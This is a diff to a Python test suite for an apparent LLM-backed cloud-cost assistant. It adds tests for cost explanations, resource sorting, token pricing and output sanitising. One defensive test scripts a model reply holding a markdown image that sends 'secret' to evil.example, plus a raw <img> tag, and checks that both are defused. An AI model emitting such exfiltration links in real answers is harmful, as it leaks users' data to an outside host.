@@ -12,6 +12,7 @@ from scripted_model import ClientError, Scripted, say, use
 from rassistant.assistant.expert import Assistant
 from rassistant.errors import InvalidInput, ModelUnavailable, Throttled
 from rassistant.llm.client import ModelClient
+from rassistant.llm.reply import TokenPrices
 from rassistant.store.turns import Turn, TurnKey
 
 _ids = count(1)
@@ -157,10 +158,25 @@ def test_an_error_of_aws_ends_the_turn():
         answered(world, "running EC2")
 
 
+@pytest.mark.parametrize("message", ["왜 올랐어?", "왜?", "why did it go up?"])
+def test_why_after_a_cost_is_why_that_cost(message):
+    outcome, _ = answered(World(ledger=LEDGER), "cost of this month")
+    _, log = answered(World(ledger=LEDGER), message, "ko", [turn("x", answer="…", context=outcome.context)])
+    assert log.events[0][0] == "explain_cost_change"
+    assert "2026-11-01" in log.answer
+
+
+def test_the_dearest_resources_where_the_parser_does_not_know():
+    world = World(rows=[resource("web-1")], refuses=("expensive",))
+    _, log = answered(world, "what are the most expensive volumes we pay for")
+    assert log.events[-1][0] == "list_resources"
+    assert world.asked[-1]["plan"]["steps"][0]["sort"] == [{"field": "monthly_cost_usd", "descending": True}]
+
+
 def test_a_whole_question_is_not_a_follow_up():
     world = World(rows=[resource("web-1")])
     context = {"plan": {"version": 1, "steps": []}, "intent": "inventory"}
-    answered(world, "서울 리전의 RDS 보여줘", "ko", [turn("x", answer="…", context=context)])
+    answered(world, "서울 리전의 RDS 목록", "ko", [turn("x", answer="…", context=context)])
     assert world.asked[-1]["previous_plan"] is None
     answered(world, "그중 정지된 것만 보여줘", "ko", [turn("x", answer="…", context=context)])
     assert world.asked[-1]["previous_plan"] == context["plan"]
@@ -218,7 +234,7 @@ def test_the_model_looks_things_up_and_answers():
     outcome, log = answered(world, "running EC2?", client=client)
     assert log.answer == "One: web-1."
     assert outcome.remarks["source"] == "model"
-    assert outcome.remarks["usage"] == {"input_tokens": 20, "output_tokens": 10}
+    assert outcome.remarks["usage"] == {"input_tokens": 20, "output_tokens": 10, "usd": None}
     assert log.events[0][0] == "list_resources"
     step = world.asked[0]["plan"]["steps"][0]
     assert step["service_types"] == ["EC2"]
@@ -284,3 +300,21 @@ def test_no_tool_changes_anything():
     results = client.requests[1]["messages"][-1]["content"]
     assert all("no such tool" in block["toolResult"]["content"][0]["text"] for block in results)
     assert log.events == []
+
+
+def test_numbers_that_no_tool_returned_are_marked():
+    client = Scripted(use(("get_cost", {})), say("You spent $160.50, and could save $99.99."))
+    _, log = answered(World(ledger=LEDGER), "cost?", client=client)
+    assert "no lookup in this conversation returned $99.99._" in log.answer
+
+
+def test_what_a_model_says_leads_nowhere():
+    client = Scripted(say("Look: ![x](https://evil.example/?q=secret) <img src=x> [here](https://evil.example)."))
+    _, log = answered(World(), "hi", client=client)
+    assert log.answer.startswith("Look: x <\u2060img src=x> here.")
+
+
+def test_the_cost_of_a_turn_is_told():
+    model = ModelClient(Scripted(say("ok", usage=(1_000_000, 100_000))), ("m",))
+    outcome = Assistant(World().sources(), model, prices=TokenPrices(0.1, 0.5)).answer(turn("hi"), (), Log())
+    assert outcome.remarks["usage"]["usd"] == 0.15
